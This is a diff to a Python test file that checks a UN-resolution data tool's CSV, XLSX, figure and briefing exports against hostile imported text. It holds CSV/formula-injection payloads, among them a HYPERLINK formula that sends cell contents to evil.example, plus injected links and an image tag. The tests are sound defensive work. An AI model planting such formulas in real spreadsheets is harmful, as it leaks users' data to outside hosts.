@@ -1,5 +1,6 @@
-"""A corpus of corrupted inputs: each exits non-zero, names file, line and column, and leaves the
-warehouse byte-identical. Synthetic corruptions of the fixture world and of UN Digital Library files."""
+"""A corpus of corrupted and hostile inputs. Corrupted ones exit non-zero, name file, line and column, and leave the
+warehouse byte-identical (synthetic corruptions of the fixture world and of UN Digital Library files). Hostile ones
+are accepted but never act: no formula, link, image or markup from outside text in any export, page or figure."""
 from __future__ import annotations
 
 import ast
@@ -181,3 +182,132 @@ def test_undl_corruption(case, world_dir, warehouse, tmp_path, capsys):
     assert "Traceback" not in err
     assert digest(warehouse) == before
     assert not list((tmp_path / "imports").rglob("*.parquet")) if (tmp_path / "imports").exists() else True
+
+
+# Outside text that must never act where it is written (issue: data from outside can never act). One UN Digital
+# Library file brings every attempt as a title, draft or meeting symbol; each text joins the record (CYBERCRIME).
+HOSTILE = {"A/RES/100/8": '=HYPERLINK("http://evil.example/?"&A2,"x")',
+           "A/RES/100/9": '<a href="https://evil.example/a">a</a> [text](https://evil.example/t)',
+           "A/RES/100/10": "+1+1", "A/RES/100/11": "-1+1", "A/RES/100/12": "@SUM(1+1)"}
+HOSTILE_DRAFTS = {"A/RES/100/8": "[draft](https://evil.example/d)", "A/RES/100/9": '<img src="http://127.0.0.1:9/i.png">'}
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory):
+    from etl import imports
+    from etl.schema import load_catalog
+    from etl.validate import validate
+    from tests.conftest import make_world
+
+    base = tmp_path_factory.mktemp("hostile")
+    world = make_world(base / "data")
+    catalog = load_catalog(world)
+    db = base / "w.duckdb"
+    imports.add([ROOT / "tests" / "fixtures" / "undl" / "hostile.csv"], catalog, validate(catalog, world), db, world,
+                base / "imports", progress=None)
+    return db
+
+
+@pytest.fixture(scope="module")
+def hostile_con(hostile_db):
+    import duckdb
+
+    con = duckdb.connect(str(hostile_db), read_only=True)
+    yield con
+    con.close()
+
+
+def workbook_cells(data: bytes) -> list:
+    import io
+
+    import openpyxl
+
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+
+def titles_by_symbol(rows: list[list], header: list[str]) -> dict[str, str]:
+    symbol, title = header.index("symbol"), header.index("title")
+    return {row[symbol]: row[title] for row in rows if row[symbol] in HOSTILE}
+
+
+def test_imported_formulas_are_text_in_the_xlsx_of_a_table(hostile_con):
+    import io
+
+    import openpyxl
+
+    from cyberdiplomacy import exports, queries
+
+    table = queries.table(hostile_con, "resolutions")
+    data = exports.xlsx_bytes(table, exports.about("Resolutions", "", [], {}))
+    assert [c.coordinate for c in workbook_cells(data) if c.data_type == "f"] == []
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
+    rows = [[c.value for c in row] for row in sheet.iter_rows()]
+    assert titles_by_symbol(rows[1:], rows[0]) == {s: "'" + t if t[0] in "=+-@" else t for s, t in HOSTILE.items()}
+
+
+def test_imported_formulas_start_with_a_quote_in_csv_and_the_dataset_zip(hostile_con):
+    import csv
+    import io
+    import zipfile
+
+    import pyarrow.parquet as pq
+
+    from cyberdiplomacy import dataset, exports, queries
+
+    expected = {s: "'" + t if t[0] in "=+-@" else t for s, t in HOSTILE.items()}
+    rows = list(csv.reader(io.StringIO(exports.csv_bytes(queries.table(hostile_con, "resolutions")).decode())))
+    assert titles_by_symbol(rows[1:], rows[0]) == expected
+    archive = zipfile.ZipFile(io.BytesIO(dataset.from_warehouse(hostile_con)))
+    rows = list(csv.reader(io.StringIO(archive.read("csv/resolutions.csv").decode())))
+    assert titles_by_symbol(rows[1:], rows[0]) == expected
+    # Parquet is read by programs, not spreadsheets: it keeps the text as imported.
+    parquet = pq.read_table(io.BytesIO(archive.read("parquet/resolutions.parquet"))).to_pylist()
+    assert {r["symbol"]: r["title"] for r in parquet if r["symbol"] in HOSTILE} == HOSTILE
+
+
+def test_no_figure_table_writes_a_formula(hostile_con):
+    from cyberdiplomacy import exports, figures
+    from cyberdiplomacy.filters import Filters
+
+    written = 0
+    for name in figures.FIGURES:
+        try:
+            drawn = figures.build(name, figures.Direct(hostile_con), Filters(resolution="A/RES/100/8"))
+        except figures.FigureUnavailable:
+            continue
+        cells = workbook_cells(exports.xlsx_bytes(drawn.table, exports.about(name, "", [], {})))
+        assert [c.value for c in cells if c.data_type == "f"] == [], name
+        text = exports.csv_bytes(drawn.table).decode()
+        assert not any(line.startswith(tuple("=+-@")) or f",{HOSTILE['A/RES/100/8']}" in line
+                       for line in text.splitlines()), name
+        written += 1
+    assert written >= 10
+
+
+def test_the_briefing_workbook_writes_no_formula(hostile_con):
+    from cyberdiplomacy import briefing
+
+    pack = briefing.for_resolution(hostile_con, "A/RES/100/8")
+    cells = workbook_cells(briefing.to_xlsx(pack))
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert "'" + HOSTILE["A/RES/100/8"] in {c.value for c in cells}
+
+
+def test_numbers_stay_numbers_and_every_formula_start_is_text():
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from cyberdiplomacy import exports
+
+    frame = pd.DataFrame({"text": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "a-1", None],
+                          "count": [-3, -2, -1, 0, 1, 2, 3, 4], "share": [-0.5, 0.5, None, 1, 1, 1, 1, 1]})
+    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame, {})))["data"]
+    assert [c.value for c in sheet["A"]][1:] == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "a-1", None]
+    assert [(c.value, c.data_type) for c in sheet["B"]][1:4] == [(-3, "n"), (-2, "n"), (-1, "n")]
+    assert sheet["C2"].value == -0.5 and sheet["C2"].data_type == "n"
+    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), keep_default_na=False)
+    assert back["text"].tolist() == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "a-1", ""]
+    assert back["count"].tolist() == [-3, -2, -1, 0, 1, 2, 3, 4]
